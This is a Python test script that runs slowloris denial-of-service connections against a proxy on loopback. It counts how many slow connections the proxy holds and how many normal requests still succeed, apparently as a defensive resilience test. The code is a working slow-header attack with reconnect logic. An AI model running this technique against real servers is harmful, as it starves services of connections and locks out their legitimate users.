#!/usr/bin/env python3
"""Slow clients against a proxy on 127.0.0.1: the attacks of issue 17, as numbers.

  hold     N slowloris connections (a partial head, then one header line every
           INTERVAL seconds, as slowhttptest -H does); prints how many the proxy still
           holds open at each checkpoint.
  lockout  N slowloris connections that reconnect when the proxy closes them, against
           a proxy whose connection limit is below N; meanwhile a normal client (in a
           process of its own, so that the attack's event loop does not slow it) opens
           a new connection for each of PROBES requests and counts the 2xx answers it
           gets within 3 s each.
  probe    that normal client alone.

Bounded in time and count, loopback only. Standard library only.
Usage: slowloris.py hold PORT [--conns 3000] [--interval 10] [--seconds 50]
       slowloris.py lockout PORT [--conns 3000] [--interval 10] [--probes 200]
       slowloris.py probe PORT [--probes 200]
"""
import argparse
import asyncio
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: slowloris\r\n"


async def slow_conn(port, interval, stop, counts, reconnect):
    while not stop.is_set():
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        counts["opened"] += 1
        counts["open"] += 1
        try:
            w.write(HEAD)
            await w.drain()
            while not stop.is_set():
                # Wait for the interval, or for the proxy to close (read returns).
                try:
                    data = await asyncio.wait_for(r.read(4096), timeout=interval)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    pass
                w.write(b"X-a: b\r\n")
                await w.drain()
        except (OSError, ConnectionError):
            pass
        finally:
            counts["open"] -= 1
            w.close()
        if not reconnect:
            return
        await asyncio.sleep(0.01)


async def probe(port):
    """One request on a new connection; True on a 2xx within 3 s."""
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 3)
        w.write(b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        await w.drain()
        line = await asyncio.wait_for(r.readline(), 3)
        w.close()
        return line.startswith(b"HTTP/1.1 2")
    except (OSError, asyncio.TimeoutError, ConnectionError):
        return False


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["hold", "lockout", "probe"])
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=3000)
    ap.add_argument("--interval", type=float, default=10)
    ap.add_argument("--seconds", type=float, default=50)
    ap.add_argument("--probes", type=int, default=200)
    a = ap.parse_args()
    if a.mode == "probe":
        ok = 0
        for _ in range(a.probes):
            t0 = time.monotonic()
            ok += await probe(a.port)
            await asyncio.sleep(max(0, 0.05 - (time.monotonic() - t0)))
        print(ok, flush=True)
        return
    stop = asyncio.Event()
    counts = {"opened": 0, "open": 0}
    reconnect = a.mode == "lockout"
    tasks = [
        asyncio.create_task(slow_conn(a.port, a.interval, stop, counts, reconnect))
        for _ in range(a.conns)
    ]
    start = time.monotonic()
    if a.mode == "hold":
        marks = [5, 13, 20, 30, 48]
        for m in marks:
            await asyncio.sleep(max(0, start + m - time.monotonic()))
            print(f"t={m}s open={counts['open']} opened={counts['opened']}", flush=True)
    else:
        await asyncio.sleep(5)  # let the attack fill the slots
        prober = await asyncio.create_subprocess_exec(
            sys.executable, __file__, "probe", str(a.port), "--probes", str(a.probes),
            stdout=asyncio.subprocess.PIPE,
        )
        out, _ = await prober.communicate()
        ok = int(out.decode().strip() or 0)
        print(
            f"normal clients served {ok}/{a.probes} ({100 * ok / a.probes:.0f}%), "
            f"attack connections opened {counts['opened']}",
            flush=True,
        )
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main())
